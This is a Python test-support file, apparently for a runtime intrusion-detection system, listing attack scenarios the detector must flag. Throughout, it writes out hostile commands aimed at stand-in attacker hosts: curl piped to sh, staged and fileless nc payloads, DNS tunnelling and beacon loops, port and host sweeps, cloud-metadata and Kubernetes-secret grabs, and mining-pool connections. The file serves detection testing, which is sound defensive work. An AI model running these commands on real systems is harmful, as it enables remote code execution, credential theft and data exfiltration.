# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: E501 - a script is read as it is run
"""What must be told, beside shells: downloads, dropped programs, scans, tunnels, beacons and the rest."""

from __future__ import annotations

from base64 import b64encode
from typing import Final

from tests.support.scenarios.scenario import (
    BEACON,
    CLOUD,
    DRIFT,
    DROPPED,
    KUBERNETES,
    LATERAL,
    MINING,
    RCE,
    SCAN,
    TUNNEL,
    UNRESOLVED,
    Scenario,
)
from tests.support.scenarios.shells import SHELLS
from tests.support.scenarios.world import API, EVERYDAY, EVIL, EVIL_NAME, METADATA, PEER

_MEMFD = (
    "import os;f=os.memfd_create('k');os.write(f,open('/usr/bin/nc','rb').read());"
    f"os.execve(f,['k','-w1','{EVIL}','9001'],dict(os.environ))"
)
_UNLINKED = (
    "import os,shutil;shutil.copy('/usr/bin/nc','/var/lib/.k2');f=os.open('/var/lib/.k2',os.O_RDONLY);"
    f"os.unlink('/var/lib/.k2');os.execve(f,['k2','-w1','{EVIL}','9001'],dict(os.environ))"
)
# The address is in no command line, as it would be in a program.
_HIDDEN = (
    "import base64,socket;"
    f"socket.create_connection((base64.b64decode('{b64encode(EVIL.encode()).decode()}').decode(),443)).close()"
)
_TUNNEL = (
    "import os,socket\n"
    "for n in range(170):\n"
    "  try: socket.gethostbyname(os.urandom(24).hex()+'.t.evil-example.com')\n"
    "  except OSError: pass"
)
_LONG_NAMES = (
    "import os,socket\n"
    "for n in range(24):\n"
    "  try: socket.gethostbyname(os.urandom(30).hex()+'.'+os.urandom(20).hex()+'.t.evil-example.com')\n"
    "  except OSError: pass"
)
_ODD_NAMES = (
    "import socket,struct\n"
    "s=socket.socket(2,2); s.settimeout(1); s.connect((open('/etc/resolv.conf').read().split()[1],53))\n"
    "for n in range(12):\n"
    "  q=b''.join(bytes([len(l)])+l for l in (b'p%dq'%n,b't',b'evil-example',b'com'))\n"
    "  s.send(struct.pack('!6H',n,256,1,0,0,0)+q+struct.pack('!BHH',0,10,1))\n"
    "  try: s.recv(512)\n"
    "  except OSError: pass"
)
_BEACON = (
    "import socket,time\n"
    "for n in range(110):\n"
    f"  s=socket.create_connection(('{EVIL_NAME}',8443)); s.sendall(b'alive'); s.recv(9); s.close()\n"
    "  time.sleep(0.05)"
)
_TURNS = (
    "import socket,time\n"
    "for n in range(150):\n"
    "  s=socket.create_connection((f'edge{n%5}.cdn-example.com',8443)); s.sendall(b'alive'); s.recv(9); s.close()\n"
    "  time.sleep(0.04)"
)
_SWEEP = (
    "import socket,time\n"
    "o=[]\n"
    "for n in range(100,140):\n"
    "  s=socket.socket(); s.setblocking(False); s.connect_ex((f'10.77.0.{n}',6379)); o.append(s)\n"
    "time.sleep(4)"
)
_DATAGRAMS = (
    "import socket\n"
    "for port in range(20000,20130):\n"
    f"  s=socket.socket(2,2); s.sendto(b'x',('{PEER}',port)); s.close()"
)

_DOWNLOADS: Final = (
    Scenario("download piped to a shell", "python", f"curl -s http://{EVIL_NAME}:8000/stage | sh", (RCE,), ("curl",)),
    Scenario("download by a Java service", "java", f"wget -q -O /dev/null http://{EVIL_NAME}/", (RCE,), ("wget",)),
    Scenario("download by a Node service", "node", f"curl -s http://{EVIL_NAME}/", (RCE,), ("curl",)),
    Scenario("download by a PHP service", "php", f"curl -s http://{EVIL_NAME}/", (RCE,), ("curl",)),
    Scenario("download by a Perl service", "perl", f"wget -q -O /dev/null http://{EVIL_NAME}/", (RCE,), ("wget",)),
    Scenario("download by a CGI script", "cgi", f"busybox wget -q -O /dev/null http://{EVIL_NAME}/", (RCE,), ("busybox",)),
    Scenario("download by a database", "postgres", f"curl -s http://{EVIL_NAME}/", (RCE,), ("curl",)),
    Scenario("a secret in a question", "python", "getent hosts root.t.evil-example.com", (RCE,)),
)  # fmt: skip

_DROPPED: Final = (
    Scenario(
        "staged program", "python",
        f"wget -q -O /tmp/.s1 http://{EVIL_NAME}:8000/program; chmod +x /tmp/.s1; "
        f"echo x | /tmp/.s1 -w1 {EVIL} 9001; rm -f /tmp/.s1",
        (DROPPED, RCE), ("wget", "nc"),
    ),
    Scenario(
        "staged program in an ordinary place", "java",
        f"curl -s -o /var/lib/.s3 http://{EVIL_NAME}:8000/program; chmod +x /var/lib/.s3; "
        f"echo x | /var/lib/.s3 -w1 {EVIL} 9001; rm -f /var/lib/.s3",
        (DROPPED, RCE), ("curl", "nc"),
    ),
    Scenario(
        "staged script", "node",
        f"curl -s -o /var/lib/.s2 http://{EVIL_NAME}:8000/callback; sh /var/lib/.s2; rm -f /var/lib/.s2",
        (DROPPED, RCE), ("curl", "wget"),
    ),
    Scenario("program from memory", "entry", f'python3 -c "{_MEMFD}"', (DROPPED,), ("nc",)),
    Scenario("program from memory below a service", "php", f'python3 -c "{_MEMFD}"', (DROPPED, RCE), ("nc",)),
    Scenario(
        "program from /dev/shm", "entry",
        f"cp /usr/bin/nc /dev/shm/.k1; echo x | /dev/shm/.k1 -w1 {EVIL} 9001; rm -f /dev/shm/.k1",
        (DROPPED,), ("nc",),
    ),
    Scenario("program without a file", "entry", f'python3 -c "{_UNLINKED}"', (DROPPED,), ("nc",)),
)  # fmt: skip

_BY_COUNTING: Final = (
    Scenario("an address from nowhere", "python", f'python3 -c "{_HIDDEN}"', (UNRESOLVED, RCE)),
    Scenario("an address from nowhere, in a container", "entry", f'exec python3 -c "{_HIDDEN}"', (UNRESOLVED,)),
    Scenario("tunnel through DNS", "entry", f'python3 -c "{_TUNNEL}"', (TUNNEL,)),
    Scenario("tunnel in long names", "entry", f'python3 -c "{_LONG_NAMES}"', (TUNNEL,)),
    Scenario("tunnel in odd records", "entry", f'python3 -c "{_ODD_NAMES}"', (TUNNEL,)),
    Scenario("beacon", "entry", f'exec python3 -c "{_BEACON}"', (BEACON,), slower=1800),
    Scenario("beacon in turns", "entry", f'exec python3 -c "{_TURNS}"', (BEACON,), slower=2900),
    Scenario(
        "beacon of a script", "entry",
        f"for n in $(seq 110); do curl -s http://{EVIL_NAME}/o; sleep 0.02; done", (BEACON,), ("curl",), slower=4800,
    ),
    Scenario("port scan", "python", f"for p in $(seq 1 40); do nc -z -w1 {PEER} $p; done", (SCAN, RCE), ("nc",), beside=(LATERAL,)),
    Scenario("sweep of hosts", "entry", f'exec python3 -c "{_SWEEP}"', (SCAN,)),
    Scenario("scan with datagrams", "entry", f'exec python3 -c "{_DATAGRAMS}"', (SCAN,)),
)  # fmt: skip

_BY_PLACE: Final = (
    Scenario(
        "credentials of the machine", "python", f"curl -s -m2 http://{METADATA}/latest/meta-data/",
        (CLOUD, RCE), ("curl",),
    ),
    Scenario("credentials by name", "node", "getent hosts metadata.google.internal", (CLOUD, RCE)),
    Scenario("credentials by a tool in a container", "entry", f"wget -q -O /dev/null http://{METADATA}/", (CLOUD,), ("wget",)),
    Scenario(
        "miner", "entry",
        f'exec python3 -c "import socket;socket.create_connection((\'{EVIL}\',3333)).close()" '
        f"-o stratum+tcp://{EVIL_NAME}:3333",
        (MINING,),
    ),
    Scenario("a pool's name", "python", "getent hosts pool.supportxmr.com", (MINING, RCE)),
    Scenario("a pool's port", "entry", f'exec python3 -c "import socket;socket.create_connection((\'{EVIL_NAME}\',3333)).close()"', (MINING,)),
    Scenario("the pod's account", "python", f"curl -sk -m2 https://{API}/api/v1/secrets", (KUBERNETES, RCE), ("curl",)),
    Scenario("the pod's account by a tool in a container", "entry", f"curl -sk -m2 https://{API}/api", (KUBERNETES,), ("curl",)),
    Scenario("on to the next pod", "python", f"echo x | nc -w1 {PEER} 22", (LATERAL, RCE), ("nc",)),
    Scenario("on to the next pod's service", "java", f"echo INFO | nc -w1 {PEER} 6379", (LATERAL, RCE), ("nc",)),
    Scenario("a tool in a container reaches for a login", "entry", f"echo x | nc -w1 {PEER} 22", (LATERAL,), ("nc",)),
)  # fmt: skip

# No shell and no tool: the service itself is had go elsewhere, once it is known what it does.
_BY_LEARNING: Final = (
    Scenario(
        "a service goes where it never went", "python fetch", " ".join([*EVERYDAY, f"http://{EVIL_NAME}/"]),
        (DRIFT,), slower=9000,
    ),
    Scenario(
        "a service asks the cloud for credentials", "python fetch", " ".join([*EVERYDAY, f"http://{METADATA}/"]),
        (DRIFT, CLOUD), slower=9000,
    ),
)  # fmt: skip

ATTACKS: Final = (*_DOWNLOADS, *SHELLS, *_DROPPED, *_BY_COUNTING, *_BY_PLACE, *_BY_LEARNING)
